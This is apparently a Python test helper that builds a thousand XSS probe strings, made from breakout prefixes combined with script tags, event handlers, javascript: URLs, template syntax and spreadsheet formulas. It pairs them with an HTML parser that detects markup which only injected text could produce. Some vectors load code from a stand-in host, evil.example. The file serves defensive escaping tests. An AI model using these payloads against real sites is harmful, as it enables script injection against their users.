"""A thousand texts that would run a program in a page that took them for markup, and how to tell.

Each holds MARK: whatever a page makes of it, its pieces are found again.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product

MARK = "ran7q"
COUNT = 1_000
# What a text would first have to get out of.
BEFORE = (
    "", '"', "'", '">', "'>", "`", "</td>", "</title>", "</textarea>", "</option></select>",
    "</script>", "</style>", "-->", "]]>", "</svg>", "</a>", '" ', "' ", "&quot;>", "&#34;&#62;",
    "\\\"", "%22%3E", "\u2028", "\n\n", "=", "</template>", "</noscript>", "<!--", "<![CDATA[",
)  # fmt: skip
RUNS = f"window.{MARK}=1"
# What would run then, or lead there; or make the page another one.
VECTORS = (
    f"<script>{RUNS}</script>", f"<ScRiPt >{RUNS}</sCrIpT>", f"<script/x>{RUNS}</script>",
    f"<script src=//evil.example/{MARK}.js></script>", f"<scr<script>ipt>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>", f"<img/src='x'/onerror={RUNS}>", f'<img src=x onerror="{RUNS}"',
    f"<IMG SRC=x ONERROR={RUNS}//", f"<svg onload={RUNS}>", f"<svg/onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>", f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUNS}></mtext></math>", f"<body onload={RUNS}>",
    f"<input autofocus onfocus={RUNS}>", f"<select autofocus onfocus={RUNS}>",
    f"<details open ontoggle={RUNS}>", f"<video src=x onerror={RUNS}>",
    f"<audio src=x onerror={RUNS}>", f"<iframe src=javascript:top.{MARK}=1>",
    f"<iframe srcdoc='<script>top.{MARK}=1</script>'>", f"<object data=javascript:{RUNS}>",
    f"<embed src=javascript:{RUNS}>", f"<a href=javascript:{RUNS}>{MARK}</a>",
    f"<a href='java&#9;script:{RUNS}'>{MARK}</a>", f"<form action=javascript:{RUNS}><button>{MARK}",
    f"<button formaction=javascript:{RUNS}>{MARK}", f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUNS}'>",
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>", f"<style>@import '{MARK}';</style>",
    f"<div style=background:url({MARK})>", f"<marquee onstart={RUNS}>",
    f"<x onmouseover={RUNS} style=position:fixed;inset:0>", f"<plaintext>{MARK}", f"<!--{MARK}",
    f" onmouseover={RUNS} ", f' autofocus onfocus="{RUNS}" x="', f"javascript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>", f"{{{{ {MARK} }}}}", f"${{{RUNS}}}",
    f"{{% {MARK} %}}", f"<%= {MARK} %>", f"<xmp>{MARK}</xmp>",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"\uff1cscript\uff1e{RUNS}\uff1c/script\uff1e", f"+cmd|'{MARK}'!A0", f"@SUM({MARK})",
)  # fmt: skip


def words() -> list[str]:
    """The thousand, every way out and every vector among them."""
    found = [before + vector for vector, before in product(VECTORS, BEFORE)]
    step = len(found) / COUNT
    chosen = [found[int(n * step)] for n in range(COUNT)]
    assert len(set(chosen)) == COUNT
    return chosen


# All that our own pages are made of.
TAGS = frozenset(
    re.findall(
        r"\w+",
        "html head meta title link script body a div strong span header button svg path line "
        "circle rect polyline polygon ellipse g text form label input nav ul li main h1 h2 h3 h4 p "
        "table caption thead tbody tfoot tr th td footer dl dt dd details summary pre code ins del "
        "ol textarea select option optgroup section figure figcaption time fieldset legend em br "
        "hr",
    )
)
ENDLESS = frozenset(["meta", "link", "input", "br", "hr"])
LEADS = ("href", "src", "action", "formaction")
QUIET = ("meta", "link", "script", "html", "body", "svg")  # tags that never hold words of others


class Reader(HTMLParser):
    """Reads a page as a browser does, and says what in it only a hostile text can have made."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.told = 0  # how often a hostile text is shown as text
        self._inside = ""
        self._open: list[str] = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One without an end of its own."""
        self.handle_starttag(tag, attrs)
        if tag not in ENDLESS:
            self._open.pop()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A tag of ours, with attributes of ours."""
        self._inside = tag if tag in ("script", "style") else ""
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        if tag not in ENDLESS:
            self._open.append(tag)
        for name, value in attrs:
            said = value or ""
            self.told += MARK in said
            if (
                name.startswith("on")
                or name in ("style", "srcdoc")
                or MARK in name
                or (tag in QUIET and MARK in said)
            ) or (name in LEADS and not _leads_home(said)):
                self.found.append(f"{tag} {name}={said[:60]}")
        if tag == "script" and not dict(attrs).get("src", "").startswith("/static/"):
            self.found.append("<script> without a file of ours")

    def handle_endtag(self, tag: str) -> None:
        """The end of the tag that was begun last."""
        self._inside = ""
        if not self._open or self._open.pop() != tag:
            self.found.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        """Text."""
        self.told += MARK in data
        if MARK in data and self._inside:
            self.found.append(f"a program: {data[:60]}")


def _leads_home(address: str) -> bool:
    """Whether a link stays at this server."""
    return (address.startswith(("/", "#", "?")) and not address.startswith("//")) or not address


def read(page: str) -> Reader:
    """What a page is made of."""
    reader = Reader()
    reader.found += re.findall("<(?:!(?!doctype html>)|[?]).{,40}", page)  # we write no comments
    reader.feed(page)
    reader.close()
    return reader
